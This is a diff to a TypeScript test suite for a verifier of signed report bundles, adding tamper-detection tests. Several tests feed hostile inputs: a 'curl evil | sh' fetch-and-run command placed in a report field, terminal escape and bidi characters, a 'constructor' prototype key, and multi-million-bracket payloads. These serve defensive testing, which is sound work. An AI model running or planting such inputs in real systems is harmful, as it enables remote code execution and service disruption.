@@ -92,7 +92,10 @@ describe('a report that was edited', () => {
 
   test('to READY, hashes mended, signed again by a stranger', async () => {
     const verification = await verifyBundle(await resealed(edited(ready), stranger), [signer.certificates[0]], firstSight)
-    expect(verification).toMatchObject({ intact: false, judged: { outcome: 'altered', parts: ['verdict', 'profiles', 'causes'] } })
+    expect(verification).toMatchObject({
+      intact: false,
+      judged: { outcome: 'altered', parts: ['verdict', 'profiles', 'causes', 'report.json'] },
+    })
     expect(verifyExitCode(verification)).toBe(2)
     expect(verifyLines(verification, 'en').join('\n')).toMatch(/NOT INTACT.*NOT READY.*dns\/hosts-override/s)
   })
@@ -116,7 +119,26 @@ describe('a report that was edited', () => {
     const verification = await verifyBundle(made, [signer.certificates[0]], firstSight)
     expect(verification).toMatchObject({ intact: true, judged: { outcome: 'differs' } })
     expect(verifyExitCode(verification)).toBe(0)
-    expect(verifyLines(verification, 'en').at(-1)).toMatch(/differs .*The PC said READY; these rules say NOT READY/)
+    const lines = verifyLines(verification, 'en')
+    expect(lines[0]).toMatch(/^INTACT .*NOT CONFIRMED/)
+    expect(lines.join('\n')).toMatch(/differs .*The PC said READY; these rules say NOT READY/)
+    expect(lines.at(-1)).toMatch(/not compared: report\.html, agent\.log/)
+  })
+
+  test('two names for its rules, so that it might pass for an older one', async () => {
+    const spoiled = await resealed(edited(ready), signer, (manifest) => ({ ...manifest, rules: { ...manifest.rules, sha256: '00' } }))
+    expect(await codeOf(spoiled, [signer.certificates[0]])).toBe(2)
+  })
+
+  test.each(['report.html', 'agent.log'])('%s, which follows from the evidence too', async (name) => {
+    const made = await resealed(new Map([...files, [name, Buffer.from('<h1>READY</h1>')]]), signer)
+    const verification = await verifyBundle(made, [signer.certificates[0]], firstSight)
+    expect(verification).toMatchObject({ intact: false, judged: { parts: [name] } })
+  })
+
+  test('its words alone', async () => {
+    const worded = edited((report) => ({ ...report, causes: report.causes.map((cause) => ({ ...cause, confirm: 'curl evil | sh' })) }))
+    expect(await codeOf(await resealed(worded, signer), [signer.certificates[0]])).toBe(2)
   })
 })
 
@@ -165,6 +187,64 @@ describe('what is in it, hashes mended and signed again by the same key', () => 
     const { signDetached } = await import('../../agent/cms/sign.ts')
     const made = await rewritten(new Map([...files, [MANIFEST, text], [SIGNATURE, await signDetached(text, signer, 0)]]))
     expect(await problemOf(made)).toMatchObject({ code: 'content', file: MANIFEST })
+  })
+})
+
+describe('what the list claims', () => {
+  const contradicts = async (change: (manifest: Manifest) => Manifest) => {
+    const opened = await openBundle(await resealed(files, signer, change))
+    return 'problem' in opened && opened.problem
+  }
+
+  test.each<[field: string, change: (manifest: Manifest) => Manifest]>([
+    ['redaction.sha256', (manifest) => ({ ...manifest, redaction: { policy: 'strict', sha256: '0'.repeat(64) } })],
+    ['profiles', (manifest) => ({ ...manifest, profiles: ['ccass'] })],
+    ['agent.version', (manifest) => ({ ...manifest, agent: { version: '9.9' } })],
+  ])('%s is not so', async (field, change) => {
+    expect(await contradicts(change)).toEqual({ code: 'content', file: MANIFEST, field })
+  })
+
+  test('a time that is not the signature’s', async () => {
+    const text = Buffer.from(manifestText({ ...jsonOf<Manifest>(files, MANIFEST) }))
+    const { signDetached } = await import('../../agent/cms/sign.ts')
+    const later = await signDetached(text, signer, Date.parse('2031-01-01'))
+    const opened = await openBundle(await rewritten(new Map([...files, [SIGNATURE, later]])))
+    expect('problem' in opened && opened.problem).toEqual({ code: 'content', file: MANIFEST, field: 'created' })
+  })
+})
+
+describe('what a stranger might write into it', () => {
+  const evidence = () => jsonOf<Record<string, Record<string, unknown>>>(files, 'evidence.json')
+  const settings = () => jsonOf<Record<string, unknown>>(files, 'settings.json')
+  const codeWith = async (changed: Files) => codeOf(await resealed(changed, stranger))
+
+  test('escape sequences in names that are shown', async () => {
+    const contacts = { 'site-it': { name: '\u001b[2J\u202e', phone: null, email: null }, 'site-network': null, 'line-vendor': null }
+    expect(await codeWith(withJson(files, 'presentation.json', { version: 1, contacts, profiles: [] }))).toBe(2)
+  })
+
+  test('a role that every object has', async () => {
+    const { dns = {} } = evidence()
+    const resolvers = (dns.resolvers as object[]).map((each) => ({ ...each, roles: ['constructor'] }))
+    const code = await codeWith(withJson(files, 'evidence.json', { ...evidence(), dns: { ...dns, resolvers } }))
+    expect(code).toBe(2)
+  })
+
+  test('a time after the year 9999', async () => {
+    const run = jsonOf<object>(files, 'run.json')
+    expect(await codeWith(withJson(files, 'run.json', { ...run, startedAtMs: 8.64e15 }))).toBe(2)
+  })
+
+  test('a field twice, ten thousand servers, brackets without end', async () => {
+    const twice = Buffer.from(
+      Buffer.from(files.get('run.json') ?? [])
+        .toString()
+        .replace('"version": 1,', '"version": 1,\n  "version": 1,'),
+    )
+    expect(await codeWith(new Map([...files, ['run.json', twice]]))).toBe(2)
+    const resolvers = Array.from({ length: 10_000 }, () => ({ address: '10.0.0.1', port: 53, roles: [] }))
+    expect(await codeWith(withJson(files, 'settings.json', { ...settings(), resolvers }))).toBe(2)
+    expect(await codeWith(new Map([...files, ['evidence.json', Buffer.from('['.repeat(5_000_000))]]))).toBe(2)
   })
 })
 
